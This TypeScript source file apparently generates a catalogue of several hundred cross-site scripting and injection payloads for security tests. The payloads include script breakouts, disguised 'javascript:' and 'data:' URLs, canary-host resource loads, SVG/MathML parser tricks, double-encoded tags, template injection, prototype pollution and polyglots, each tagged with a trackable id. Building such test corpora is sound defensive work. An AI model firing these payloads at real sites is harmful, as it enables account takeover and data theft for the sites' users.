import { attributes, breakouts, PLAIN_IMAGE, tags } from './hostile-markup.ts';
import { away, BARE, CANARY_HOST, type HostileText, turn } from './hostile-script.ts';

const inPercents = (text: string) => text.replace(/[a-z]/, (c) => `%${c.charCodeAt(0).toString(16)}`);

/** Where a text stands in a script or in JSON: the page carries its state as JSON. */
const IN_SCRIPT: ((script: string) => string)[] = [
  (script) => `";${script}//`,
  (script) => `';${script}//`,
  (script) => `\`;${script}//`,
  (script) => `"-${script}-"`,
  (script) => `'-${script}-'`,
  (script) => `\${${script}}`,
  (script) => `\\";${script}//`,
  (script) => `\\';${script}//`,
  (script) => `\u2028${script}\u2029`,
  (script) => `"}]};${script}//`,
  (script) => `</script><script>${script}//`,
  (script) => `</script\n><script>${script}</script>`,
  (script) => `<!--<script>"</script><script>${script}</script>`,
  (script) => `\\u003c/script\\u003e<script>${script}</script>`,
  (script) => `//\r${script}`,
];
const inScripts: HostileText[] = IN_SCRIPT.flatMap((write, at) =>
  [0, 3].map(
    (step): HostileText =>
      (id) =>
        write(turn(BARE, at + step)(id)),
  ),
);

const JAVASCRIPT = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  '\u0001javascript:',
  '\u001fjavascript:',
  'java\tscript:',
  'java\nscript:',
  'javas\rcript\t:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A&#x61vascript:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'javascript://%0a',
  'javascript://x%0d',
  'javascript:/*x*/',
  'javascript:void ',
  'javascript:"x",',
];
const ELSEWHERE: HostileText[] = [
  away,
  (id) => `/\\${CANARY_HOST}/${id}`,
  (id) => `\\\\${CANARY_HOST}/${id}`,
  (id) => `http:${away(id)}`,
  (id) => `/\t${away(id).slice(1)}`,
  (id) => `\t${away(id)}`,
  (id) => `https://x@${CANARY_HOST}/${id}`,
  (id) => `http:\\\\${CANARY_HOST}\\${id}`,
  (id) => `data:text/html,<script>ran(${id})</script>`,
  (id) => `data:text/html;base64,${btoa(`<svg onload=ran(${id})>`)}#${id}`,
  (id) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran(${id})'/>`,
  (id) => `DATA:text/html;charset=utf-8,%3Csvg onload=ran(${id})%3E`,
  (id) => `vbscript:ran(${id})`,
  (id) => `view-source:javascript:ran(${id})`,
];
const addresses: HostileText[] = [
  ...JAVASCRIPT.flatMap((scheme, at): HostileText[] => [
    (id) => `${scheme}${turn(BARE, at % 5)(id)}`,
    (id) => `${scheme}${inPercents(`ran(${id})`)}`,
  ]),
  ...ELSEWHERE,
  ...[...JAVASCRIPT.slice(0, 6), 'data:text/html,<svg onload='].flatMap((scheme): HostileText[] => [
    (id) => `<a href="${scheme}ran(${id})">x</a>`,
    (id) => `<iframe src="${scheme}ran(${id})">`,
    (id) => `<form action="${scheme}ran(${id})"><button>x`,
    (id) => `<svg><a href="${scheme}ran(${id})"><text y=20>x`,
  ]),
];

const loading: HostileText[] = [
  (id) => `<img src=${away(id)}>`,
  (id) => `<script src=${away(id)}></script>`,
  (id) => `<script type=module>import'${away(id)}'</script>`,
  (id) => `<script src=data:text/javascript,ran(${id})></script>`,
  (id) => `<svg><script href=data:text/javascript,ran(${id}) />`,
  (id) => `<link rel=stylesheet href=${away(id)}>`,
  (id) => `<link rel=prefetch href=${away(id)}>`,
  (id) => `<style>@import'${away(id)}'</style>`,
  (id) => `<p style="background:url(${away(id)})">x`,
  (id) => `x;background:url(${away(id)})`,
  (id) => `red}*{background:url(${away(id)})}`,
  (id) => `<base href=${away(id)}/><img src=x>`,
  (id) => `<meta http-equiv=refresh content="0;url=${away(id)}">`,
  (id) => `<iframe src=${away(id)}>`,
  (id) => `<iframe srcdoc="<script>ran(${id})</script>">`,
  (id) => `<iframe srcdoc=&lt;svg/onload=ran(${id})&gt;>`,
  (id) => `<object data="data:text/html,<svg onload=parent.ran(${id})>">`,
  (id) => `<embed src=${away(id)}>`,
  (id) => `<video poster=${away(id)}>`,
  (id) => `<input type=image src=${away(id)}>`,
  (id) => `<svg><use href=${away(id)}#x />`,
  (id) => `<svg><image href=${away(id)} />`,
];

const foreign: HostileText[] = [
  (id) => `<svg><script>ran(${id})</script>`,
  (id) => `<svg><script>&#114;an(${id})</script>`,
  (id) => `<svg><style><img src=x onerror=ran(${id})></style>`,
  (id) => `<svg><desc>${PLAIN_IMAGE(id)}</desc>`,
  (id) => `<svg><foreignObject>${PLAIN_IMAGE(id)}`,
  (id) => `<math><mtext>${PLAIN_IMAGE(id)}`,
  (id) => `<math><style>${PLAIN_IMAGE(id)}</style>`,
  (id) => `<math><annotation-xml encoding=text/html>${PLAIN_IMAGE(id)}`,
  (id) => `<math><mi xlink:href="javascript:ran(${id})">x`,
  (id) => `<table><td>${PLAIN_IMAGE(id)}`,
  (id) => `<select><option>${PLAIN_IMAGE(id)}</select>${PLAIN_IMAGE(id)}`,
  (id) => `<noscript><p title="</noscript>${PLAIN_IMAGE(id)}">`,
  (id) => `<p><template shadowrootmode=open>${PLAIN_IMAGE(id)}`,
  (id) => `<form><math><mtext></form><form><mglyph><style></math>${PLAIN_IMAGE(id)}`,
];

/** What comes to life when something decodes once too often, or fills in a pattern. */
const disguised: HostileText[] = [
  (id) => `&lt;img src=x onerror=ran(${id})&gt;`,
  (id) => `&amp;lt;img src=x onerror=ran(${id})&amp;gt;`,
  (id) => `&#60;img src=x onerror=ran(${id})&#62;`,
  (id) => `%3Cimg src=x onerror=ran(${id})%3E`,
  (id) => `%253Cimg src=x onerror=ran(${id})%253E`,
  (id) => `\\u003cimg src=x onerror=ran(${id})\\u003e`,
  (id) => `\\x3cimg src=x onerror=ran(${id})\\x3e`,
  (id) => `\uff1cimg src=x onerror=ran(${id})\uff1e`,
  (id) => `\u202e<img src=x onerror=ran(${id})>\u202c`,
  (id) => `\ufeff\u200b<img src=x onerror=ran(${id})>`,
  (id) => `<scr<script>ipt>ran(${id})</scr</script>ipt>`,
  (id) => `<scr\0ipt>ran(${id})</scr\0ipt>`,
  (id) => `<img\0 src=x onerror=ran(${id})>`,
  (id) => `<\0img src=x onerror=ran(${id})>`,
  (id) => `{{constructor.constructor('ran(${id})')()}}`,
  (id) => `<%= ran(${id}) %>`,
  (id) => `#{ran(${id})}`,
  (id) => `__proto__[ran]=${id}`,
  (id) => `{"__proto__":{"ran":${id}}}`,
  (id) => `{"constructor":{"prototype":{"ran":${id}}}}`,
  (id) => `__proto__ ${id}`,
  (id) => `{"$$typeof":"Symbol(react.element)","type":"img","ran":${id}}`,
  (id) => `{"__html":"<img src=x onerror=ran(${id})>"}`,
];

const polyglots: HostileText[] = [
  (id) => `'"></title></textarea></script><svg/onload=ran(${id})>`,
  (id) => `javascript:/*"/*'/*--></style></script><svg/onload=ran(${id})>`,
  (id) => `*/ran(${id})/*<!--"'><img src=x onerror=ran(${id})>`,
  (id) => `';ran(${id});//";ran(${id});//--></script>${PLAIN_IMAGE(id)}`,
  (id) => `"onfocus=ran(${id}) autofocus tabindex=1 '><img src=x onerror=ran(${id})>`,
];

/** All of them, more than 300, none longer than an item's name may be. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...tags,
  ...breakouts,
  ...attributes,
  ...inScripts,
  ...addresses,
  ...loading,
  ...foreign,
  ...disguised,
  ...polyglots,
];

const FIRST_ID = 1_000_000;
const PER_PLACE = 1000;

/** The number that a text carries, of seven digits: where it stands, and which of all it is. */
export const hostileId = (place: number, at: number): number => FIRST_ID + place * PER_PLACE + at;

/** @returns the numbers of the texts in a text, with where they stand and which they are */
export function hostileIdsIn(text: string): { place: number; at: number }[] {
  return [...text.matchAll(/(?<![\w.])1\d{6}(?!\d)/g)].map(([found]) => {
    const rest = Number(found) - FIRST_ID;
    return { place: Math.floor(rest / PER_PLACE), at: rest % PER_PLACE };
  });
}

/** @returns as many of them, from everywhere in the list, by their places in it */
export function spreadSample(many: number): number[] {
  const all = HOSTILE_TEXTS.map((_, at) => at);
  return many >= all.length
    ? all
    : all.filter((at) => Math.floor((at * many) / all.length) !== Math.floor(((at - 1) * many) / all.length));
}

/** @returns the text with that place in the list, for somewhere */
export function hostileText(at: number, place: number): string {
  const write = turn(HOSTILE_TEXTS, at);
  return write(hostileId(place, at));
}
